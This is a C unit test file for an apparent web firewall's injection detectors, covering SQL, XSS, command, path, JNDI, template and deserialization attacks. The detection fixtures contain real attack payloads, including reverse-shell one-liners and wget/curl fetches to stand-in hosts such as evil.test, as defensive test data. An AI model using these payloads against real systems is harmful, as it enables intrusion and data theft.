#include "../unit.h"
#include "base/limits.h"
#include "check/match/inject.h"
#include "check/match/scan.h"
#include "check/match/value.h"

/* Patterns of injection: each table has what must match and what must not. */

typedef gboolean (*Match) (WgSlice value, WgMatch *out);

static void
check_table (const char *name, Match match, const char *const *good, const char *const *bad)
{
  WgMatch out;

  for (; *good != NULL; good++)
    if (!match (wg_slice_str (*good), &out))
      fail_msg ("%s: not found: %s", name, *good);
  for (; *bad != NULL; bad++)
    if (match (wg_slice_str (*bad), &out))
      fail_msg ("%s: wrongly found: %s: %s", name, *bad, out.what);
}

static const char *const sql_good[] = {
    "' OR 1=1-- ",
    "' or '1'='1",
    "x' or 'a'='a",
    "admin'-- ",
    "admin'--",
    "admin' #",
    "admin'/*",
    "') or ('1'='1",
    "\" or \"\"=\"",
    "1 or 1=1",
    "1 AND 1=2",
    "-1 UNION SELECT 1,2,3",
    "1 UNION SELECT name,pw FROM u--",
    "' union all select null,null#",
    "1' AND SLEEP(5)-- -",
    "1;DROP TABLE users",
    "Robert'); DROP TABLE students;--",
    "1'; exec xp_cmdshell('dir')--",
    "1;waitfor delay '0:0:5'--",
    "' and 1=(select count(*) from users)--",
    "1 order by 5--",
    "' order by 3#",
    "1/**/union/**/select/**/1,2",
    "1 /*!50000union*/ /*!50000select*/ 1,2",
    "' || (select password from users where id=1) || '",
    "'+(select 1)+'",
    "%' and 1=1 and '%'='",
    "(select(0)from(select(sleep(15)))v)",
    "if(now()=sysdate(),sleep(15),0)",
    "1' and extractvalue(1,concat(0x7e,version()))-- ",
    "'=''or'",
    "' or true-- ",
    "' or 1=1 limit 1-- -",
    "1) or (1=1",
    "1' or id > 3 -- ",
    "' or name like '%a",
    "' having 1=1--",
    "1 and (select count(*) from information_schema.tables)>0",
    "' or ''='",
    NULL};
static const char *const sql_bad[] = {"O'Brien and Toronto, ON",
                                      "rock 'n' roll or blues",
                                      "1",
                                      "select",
                                      "select committee",
                                      "student union select members from all parties",
                                      "European Union selects a new president",
                                      "escape='/'",
                                      "name='x' AND pop>3",
                                      "\"foo\" and title=\"bar\"",
                                      "5\" or 6\" pipes",
                                      "5 or 6",
                                      "it's -- well -- fine, isn't it, my dear friend",
                                      "the dogs' -- cats'",
                                      "a;b;c",
                                      "drop table tennis",
                                      "update the set list",
                                      "C# and F# or C++",
                                      "what is sleep(5) in python?",
                                      "time.sleep(5)",
                                      "rO0ABXNyABFqYXZh",
                                      "1c",
                                      "SELECT * FROM users",
                                      "fish and chips",
                                      "#anchor",
                                      "12' or 14' ladder",
                                      "Smith (and Wesson)",
                                      "(or not)",
                                      "a) or b) or c)",
                                      "1, 2 and 3",
                                      "price between 10 and 20",
                                      "John said 'and then' he left",
                                      "'90s or '80s",
                                      "l'or et l'argent",
                                      "order by 5 pm",
                                      "don't order by phone",
                                      "3 and a half = 3.5",
                                      NULL};

static void
test_sql (void **state)
{
  check_table ("sql", wg_match_sql, sql_good, sql_bad);
  assert_true (wg_match_sql_break (WG_SLICE_LITERAL ("1'")));
  assert_false (wg_match_sql_break (WG_SLICE_LITERAL ("'1'")));
  assert_int_equal (wg_match_sql_delay (WG_SLICE_LITERAL ("1 and sleep(5)")), 5);
  assert_int_equal (wg_match_sql_delay (WG_SLICE_LITERAL ("waitfor delay '0:0:12'")), 12);
  assert_int_equal (wg_match_sql_delay (WG_SLICE_LITERAL ("sleep well")), 0);
}

static gboolean
is_sql_error (WgSlice value, WgMatch *out)
{
  return wg_match_sql_error (value, out) != NULL;
}

static void
test_sql_error (void **state)
{
  static const char *const good[] = {
      "<b>You have an error in your SQL syntax; check the manual",
      "ORA-00933: SQL command not",
      "<pre>sqlite3.OperationalError: unrecognized token: &quot;1&#x27;&quot;",
      "SQLSTATE[42000]",
      "psycopg2.errors.SyntaxError",
      NULL};
  static const char *const bad[] = {"Learn SQL syntax in a day", "No results for ' OR 1=1--",
                                    "syntax highlighting", "", NULL};
  check_table ("sql error", is_sql_error, good, bad);
}

static void
test_xss (void **state)
{
  static const char *const good[] = {"<script>alert(1)</script>",
                                     "<ScRiPt src=//evil>",
                                     "<svg onload=alert(1)>",
                                     "<svg/onload=alert(1)>",
                                     "<img src=x onerror=alert(1)>",
                                     "<body onload = x()>",
                                     "\"><b>",
                                     "\"><script>",
                                     "' onfocus=alert(1) autofocus='",
                                     "\" onmouseover=\"alert(1)",
                                     "javascript:alert(1)",
                                     "  JavaScript:alert`1`",
                                     "java\nscript:alert(1)",
                                     "'-alert(1)-'",
                                     "\";alert(1)//",
                                     "</script><svg/x>",
                                     "<iframe srcdoc='<b>'>",
                                     "<a href=javascript:alert(1)>x</a>",
                                     "data:text/html,<script>x</script>",
                                     "<math><mi xlink:href=\"javascript:alert(1)\">",
                                     "<x onpointerenter=a>",
                                     "' ><img src=x>",
                                     NULL};
  static const char *const bad[] = {"design ontwerp",
                                    "refreshedOnError=1",
                                    "{\"a\":\"<b>bold</b>\"}",
                                    "a < b and c > d",
                                    "x onerror=",
                                    "javascript:void(0)",
                                    "javascript:;",
                                    "<p class=\"x\"><b>text</b></p>",
                                    "<a href=\"/x\"><img src=\"y.png\"></a>",
                                    "I <3 you",
                                    "<scripture>",
                                    "scripts",
                                    "he said \"hello\" > you",
                                    "only = one",
                                    "<a title=\"on time=5\">",
                                    "data:text/html",
                                    "data:image/png;base64,AAAA",
                                    "it's on = off",
                                    "<!-- x -->",
                                    "alert(1)",
                                    "f('x'); alert",
                                    NULL};

  check_table ("xss", wg_match_xss, good, bad);
}

static void
test_path (void **state)
{
  static const struct
  {
    const char *value;
    gboolean is_path;
    WgPathMatch kind;
  } rows[] = {
      {"../../etc/passwd", FALSE, WG_PATH_FILE},
      {"..\\..\\windows\\win.ini", FALSE, WG_PATH_FILE},
      {"/etc/passwd", FALSE, WG_PATH_FILE},
      {"C:\\windows\\win.ini", FALSE, WG_PATH_FILE},
      {"php://filter/convert.base64-encode/resource=index", FALSE, WG_PATH_FILE},
      {"file:///etc/hosts", FALSE, WG_PATH_FILE},
      {"....//....//x", FALSE, WG_PATH_CLIMBS},
      {"..;/manager", FALSE, WG_PATH_CLIMBS},
      {"../../config.php", FALSE, WG_PATH_CLIMBS},
      {"../index.html", FALSE, WG_PATH_RELATIVE},
      {"/../../etc/passwd", TRUE, WG_PATH_FILE},
      {"/../x", TRUE, WG_PATH_CLIMBS},
      {"/a/../../x", TRUE, WG_PATH_CLIMBS},
      {"/a/../b", TRUE, WG_PATH_NONE},
      {"/compare/v1..v2", TRUE, WG_PATH_NONE},
      {"1..2", FALSE, WG_PATH_NONE},
      {"a..b/c", FALSE, WG_PATH_NONE},
      {"...", FALSE, WG_PATH_NONE},
      {"how to read /etc/passwd", FALSE, WG_PATH_NONE},
      {"/docs/etc/passwd.html", TRUE, WG_PATH_NONE},
      {"", TRUE, WG_PATH_NONE},
  };
  WgMatch out;

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    if (wg_match_path (wg_slice_str (rows[i].value), rows[i].is_path, &out) != rows[i].kind)
      fail_msg ("path: %s", rows[i].value);
  assert_int_equal (wg_match_path (WG_SLICE_LITERAL ("shell.php\0.jpg"), FALSE, &out),
                    WG_PATH_FILE);
  assert_int_equal (wg_match_path (WG_SLICE_LITERAL ("\x01.\0\xff"), FALSE, &out),
                    WG_PATH_NONE);
  assert_true (wg_match_file (WG_SLICE_LITERAL ("x\nroot:x:0:0:root:/root:/bin/sh"), &out));
  assert_false (wg_match_file (WG_SLICE_LITERAL ("the root: of all 0:0 evil"), &out));
}

static void
test_command (void **state)
{
  static const char *const good[] = {"127.0.0.1;id",
                                     "127.0.0.1; cat /etc/passwd",
                                     "x|whoami",
                                     ";id",
                                     "|id",
                                     "a && ping -c 3 10.0.0.1",
                                     "`id`",
                                     "$(whoami)",
                                     "$(cat /etc/passwd)",
                                     "x\nwget http://evil/x.sh",
                                     "1;/bin/ls -la",
                                     "a||curl evil.test",
                                     "x;wget${IFS}http://e/x",
                                     "`wget http://1.2.3.4/a -O /tmp/a`",
                                     "cd /tmp;wget http://e/x;sh x",
                                     "& dir c:\\",
                                     "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                                     "x;sleep 5",
                                     "|nc -e /bin/sh 10.0.0.1 4444",
                                     NULL};
  static const char *const bad[] = {";id=5",
                                    "name|id|type",
                                    "a;b;c",
                                    "tea | coffee",
                                    "cats & dogs; list",
                                    "C:\\Windows\\cat",
                                    "id",
                                    "cat /etc/passwd",
                                    "fish;chips",
                                    "q=1;sh=2",
                                    "he left; cat and dog stayed",
                                    "x; find more",
                                    "a|b|c",
                                    "Tom & id card",
                                    "width:1px;type:x;",
                                    "text/html; charset=utf-8",
                                    "50% | off",
                                    "ping | pong",
                                    "name|id",
                                    NULL};

  check_table ("command", wg_match_command, good, bad);
}

static void
test_code (void **state)
{
  static const char *const php_good[] = {"<?php system('id'); ?>",
                                         "<?= `id` ?>",
                                         "-d allow_url_include=on",
                                         "eval($_POST[x])",
                                         "system('id')",
                                         "eval(base64_decode('x'))",
                                         "phpinfo()",
                                         NULL};
  static const char *const php_bad[] = {
      "evaluate(x)", "the system (of a down)", "window.eval(x)",
      "php",         "retrieval($_)",          "operating system (s)",
      NULL};
  static const char *const shell_good[] = {"/c99.php", "/uploads/r57.php", "/x/wso2.php",
                                           "/b374k-3.php", NULL};
  static const char *const shell_bad[] = {"/wsop.php", "/alfalfa/index.php", "/index.php",
                                          "/c99", NULL};
  static const char *const bash_good[] = {"() { :; }; /bin/id", "() { :;};echo x", " (){ x;};y",
                                          NULL};
  static const char *const bash_bad[] = {"function () { x; };", "http://x/?(() => { a; })();",
                                         "() => 1", "() {", NULL};

  check_table ("php", wg_match_php, php_good, php_bad);
  check_table ("web shell", wg_match_webshell, shell_good, shell_bad);
  check_table ("shellshock", wg_match_shellshock, bash_good, bash_bad);
}

static void
test_jndi (void **state)
{
  static const struct
  {
    const char *value;
    const char *host;
  } good[] = {
      {"${jndi:ldap://10.0.0.9:1389/a}", "10.0.0.9:1389"},
      {"${${lower:j}ndi:${lower:l}dap://evil.test/x}", "evil.test"},
      {"${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://h/x}", "h"},
      {"x ${${env:NaN:-j}ndi${env:NaN:-:}ldap://h/x} y", "h"},
      {"${JNDI:DNS://h}", "h"},
      {"${jndi:ldap://h/${env:USER}}", "h"},
      {"${jndi:ldap://h/cut", "h"},
      {"${${upper:jndi}:ldap://h}", "h"},
      {"${jndi:ldaps:x}", ""},
  };
  static const char *const bad[] = {"${7*7}",
                                    "jndi:ldap://h",
                                    "${user.name}",
                                    "${jndi:}",
                                    "$ {jndi:ldap://h}",
                                    "${x:jndi:ldap}",
                                    "}{${",
                                    NULL};
  g_autoptr (GString) room = g_string_new (NULL);
  WgMatch out;

  for (guint i = 0; i < G_N_ELEMENTS (good); i++)
    {
      if (!wg_match_jndi (wg_slice_str (good[i].value), &out, room))
        fail_msg ("jndi: %s", good[i].value);
      assert_string_equal (room->str, good[i].host);
    }
  for (guint i = 0; bad[i] != NULL; i++)
    assert_false (wg_match_jndi (wg_slice_str (bad[i]), &out, room));
}

static void
test_template (void **state)
{
  static const char *const good[] = {"{{7*7}}",
                                     "${7*7}",
                                     "<%= 7*7 %>",
                                     "#{ 7 * 7 }",
                                     "*{7*7}",
                                     "{{config}}",
                                     "{{''.__class__.__mro__[1]}}",
                                     "{{7*'7'}}",
                                     NULL};
  static const char *const bad[] = {"{{name}}", "${user}",          "{{ config_name }}",
                                    "7*7",      "${jndi:ldap://x}", "<%= name %>",
                                    NULL};
  guint64 product;
  WgMatch out;

  for (guint i = 0; good[i] != NULL; i++)
    if (!wg_match_template (wg_slice_str (good[i]), &out, &product))
      fail_msg ("template: %s", good[i]);
  for (guint i = 0; bad[i] != NULL; i++)
    if (wg_match_template (wg_slice_str (bad[i]), &out, &product))
      fail_msg ("no template: %s", bad[i]);
  assert_true (wg_match_template (WG_SLICE_LITERAL ("{{13*37}}"), &out, &product));
  assert_int_equal (product, 481);
}

static void
test_documents (void **state)
{
  static const char *const xxe_good[] = {
      "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
      "<!DOCTYPE r [<!ENTITY % d SYSTEM 'http://e/x.dtd'> %d;]>",
      "<!DOCTYPE r [<!ENTITY a 'x'><!ENTITY b '&a;&a;&a;&a;&a;'><!ENTITY c "
      "'&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;'>]>",
      NULL};
  static const char *const xxe_bad[] = {
      "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0\" \"http://www.w3.org/x.dtd\"><html/>",
      "eHhlxxe", "<!DOCTYPE r [<!ENTITY nbsp '&#160;'>]>", "<r/>", NULL};
  static const char *const graph_good[] = {"{\"query\":\"{__schema{types{name}}}\"}",
                                           "{ __type(name:\"User\") {name} }", NULL};
  static const char *const graph_bad[] = {"{me{__typename}}", "__schema", NULL};

  check_table ("xxe", wg_match_xxe, xxe_good, xxe_bad);
  check_table ("graphql", wg_match_introspection, graph_good, graph_bad);
}

static void
test_internal (void **state)
{
  static const struct
  {
    const char *value;
    WgTarget kind;
    gboolean disguised;
  } rows[] = {
      {"http://169.254.169.254/latest/meta-data/", WG_TARGET_METADATA, FALSE},
      {"http://2852039166/", WG_TARGET_METADATA, TRUE},
      {"http://0xa9fea9fe/", WG_TARGET_METADATA, TRUE},
      {"http://0251.0376.0251.0376/", WG_TARGET_METADATA, TRUE},
      {"http://127.1/", WG_TARGET_LOOPBACK, TRUE},
      {"http://localhost:8080/admin", WG_TARGET_LOOPBACK, FALSE},
      {"http://[::1]/", WG_TARGET_LOOPBACK, FALSE},
      {"https://user@10.0.0.1/x", WG_TARGET_PRIVATE, FALSE},
      {"//192.168.1.1/", WG_TARGET_PRIVATE, FALSE},
      {"gopher://x.test:6379/_SET", WG_TARGET_SCHEME, FALSE},
      {"http://metadata.google.internal/", WG_TARGET_METADATA, FALSE},
      {"http://example.com/127.0.0.1", WG_TARGET_NONE, FALSE},
      {"http://8.8.8.8/", WG_TARGET_NONE, FALSE},
      {"10.0.0.1", WG_TARGET_NONE, FALSE},
      {"http://10.0.0.1.example.com/", WG_TARGET_NONE, FALSE},
      {"http://256.1.1.1/", WG_TARGET_NONE, FALSE},
      {"http://1.2.3.4.5/", WG_TARGET_NONE, FALSE},
      {"http://", WG_TARGET_NONE, FALSE},
  };
  WgSlice host;
  guint32 address;
  gboolean disguised;

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      WgTarget kind =
          wg_match_internal (wg_slice_str (rows[i].value), &host, &address, &disguised);
      if (kind != rows[i].kind || (kind != WG_TARGET_NONE && disguised != rows[i].disguised))
        fail_msg ("target: %s", rows[i].value);
    }
}

static void
test_small (void **state)
{
  static const char *const crlf_good[] = {"x\r\nSet-Cookie: a=b",
                                          "x\nLocation: http://e",
                                          "a\r\n\r\nHTTP/1.1 200 OK",
                                          "\xe5\x98\x8a\xe5\x98\x8dSet-Cookie:x",
                                          "x\r\nX-Y:z",
                                          NULL};
  static const char *const crlf_bad[] = {"line one\r\nline two", "a\nb: c", "\r\n", "x\r\n: y",
                                         "\x0d\x91\x0a\x33:",    NULL};
  static const char *const ldap_good[] = {"*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(cn=*",
                                          "x)(|(password=*)", NULL};
  static const char *const ldap_bad[] = {"(a)(b)", "f(x)(y=2)", "(1+2)*(3+4)",
                                         "a*)",    "call()(x)", NULL};
  static const char *const nosql_good[] = {"user[$ne]", "a[$regex]", "$where", "$gt", NULL};
  static const char *const nosql_bad[] = {"user[name]", "$new", "$", "price$gt", NULL};
  static const char *const proto_good[] = {"__proto__", "__proto__[x]",
                                           "a.constructor.prototype.b",
                                           "constructor[prototype][x]", NULL};
  static const char *const proto_bad[] = {"proto", "my__proto__x", "constructor", NULL};
  static const char *const value_good[] = {"' || '1'=='1", "admin' || '1'=='1", NULL};
  static const char *const value_bad[] = {"a || b", "'1'=='1'", NULL};

  check_table ("crlf", wg_match_crlf, crlf_good, crlf_bad);
  check_table ("ldap", wg_match_ldap, ldap_good, ldap_bad);
  check_table ("nosql name", wg_match_nosql_name, nosql_good, nosql_bad);
  check_table ("nosql", wg_match_nosql, value_good, value_bad);
  check_table ("prototype", wg_match_prototype_name, proto_good, proto_bad);
}

static void
test_serial (void **state)
{
  static const struct
  {
    const char *value;
    WgSerial kind;
  } rows[] = {
      {"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", WG_SERIAL_OBJECT},
      {"rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg==",
       WG_SERIAL_GADGET},
      {"O:8:\"stdClass\":0:{}", WG_SERIAL_OBJECT},
      {"a:2:{i:0;i:1;i:1;i:2;}", WG_SERIAL_DATA},
      {"a:1:{i:0;O:4:\"Evil\":0:{}}", WG_SERIAL_OBJECT},
      {"gASVIAAAAAAAAACMBXBvc2l4", WG_SERIAL_OBJECT},
      {"cos\nsystem\n(S'id'\ntR.", WG_SERIAL_GADGET},
      {"!!python/object/apply:os.system ['id']", WG_SERIAL_GADGET},
      {"{\"x\":\"_$$ND_FUNC$$_function(){}()\"}", WG_SERIAL_GADGET},
      {"AAEAAAD/////AQAAAAAAAAA", WG_SERIAL_OBJECT},
      {"O:Brien and sons", WG_SERIAL_NONE},
      {"rOmantic", WG_SERIAL_NONE},
      {"a:b:c:d:e:f", WG_SERIAL_NONE},
  };
  WgMatch out;

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    if (wg_match_serial (wg_slice_str (rows[i].value), &out) != rows[i].kind)
      fail_msg ("serial: %s", rows[i].value);
}

static void
test_program (void **state)
{
  static const guint8 windows[128] = {'M', 'Z', 0x90, 0, [0x3c] = 0x50, [0x50] = 'P', 'E'};

  assert_string_equal (wg_match_program (wg_slice (windows, sizeof windows)),
                       "Windows program");
  assert_non_null (wg_match_program (WG_SLICE_LITERAL ("\x7f"
                                                       "ELF\x02")));
  assert_non_null (wg_match_program (WG_SLICE_LITERAL ("#!/bin/sh\n")));
  assert_null (wg_match_program (
      WG_SLICE_LITERAL ("MZ is how this text begins, and it goes on for a while, for "
                        "more than a header.")));
  assert_null (wg_match_program (WG_SLICE_LITERAL ("")));
}

static void
test_value (void **state)
{
  static const struct
  {
    const char *raw;
    WgValueCoding coding;
    const char *once;
    const char *deep;
    gboolean twice;
  } rows[] = {
      {"abc", WG_CODING_FORM, "abc", "abc", FALSE},
      {"a+b%20c", WG_CODING_FORM, "a b c", "a b c", FALSE},
      {"a+b%20c", WG_CODING_PERCENT, "a+b c", "a+b c", FALSE},
      {"a+b%20c", WG_CODING_PLAIN, "a+b%20c", "a+b c", FALSE},
      {"%252e%252e", WG_CODING_FORM, "%2e%2e", "..", TRUE},
      {"%26lt;b&gt;", WG_CODING_FORM, "&lt;b&gt;", "<b>", FALSE},
      {"&#60;&#x3c;&#x;", WG_CODING_PLAIN, "&#60;&#x3c;&#x;", "<<&#x;", FALSE},
      {"\\u003cb\\x3e\\q", WG_CODING_PLAIN, "\\u003cb\\x3e\\q", "<b>\\q", FALSE},
      {"100%", WG_CODING_FORM, "100%", "100%", FALSE},
      {"%u003cb", WG_CODING_FORM, "<b", "<b", FALSE},
      {"", WG_CODING_FORM, "", "", FALSE},
  };
  WgValue value = {0};
  g_autofree char *big = g_strnfill (WG_LIMIT_MATCH_LEN + 1, 'x');

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      wg_value_open (&value, wg_slice_str (rows[i].raw), rows[i].coding);
      if (!wg_slice_is (value.once, rows[i].once) || !wg_slice_is (value.deep, rows[i].deep)
          || value.twice != rows[i].twice)
        fail_msg ("value: %s: %.*s, %.*s, %d", rows[i].raw, (int) value.once.len,
                  value.once.data, (int) value.deep.len, value.deep.data, value.twice);
    }
  wg_value_open (&value, wg_slice (big, WG_LIMIT_MATCH_LEN), WG_CODING_PLAIN);
  assert_int_equal (value.once.len, WG_LIMIT_MATCH_LEN);
  wg_value_open (&value, wg_slice (big, WG_LIMIT_MATCH_LEN + 1), WG_CODING_PLAIN);
  assert_int_equal (value.once.len, WG_LIMIT_MATCH_LEN);
  wg_value_clear (&value);
  assert_int_equal (wg_bytes_in (WG_SLICE_LITERAL ("abc-123")), 0);
  assert_int_equal (wg_bytes_in (WG_SLICE_LITERAL ("<'")), WG_BYTES_ANGLE | WG_BYTES_QUOTE);
}

int
main (void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test (test_sql),       cmocka_unit_test (test_sql_error),
      cmocka_unit_test (test_xss),       cmocka_unit_test (test_path),
      cmocka_unit_test (test_command),   cmocka_unit_test (test_code),
      cmocka_unit_test (test_jndi),      cmocka_unit_test (test_template),
      cmocka_unit_test (test_documents), cmocka_unit_test (test_internal),
      cmocka_unit_test (test_small),     cmocka_unit_test (test_serial),
      cmocka_unit_test (test_program),   cmocka_unit_test (test_value),
  };
  return cmocka_run_group_tests (tests, NULL, NULL);
}
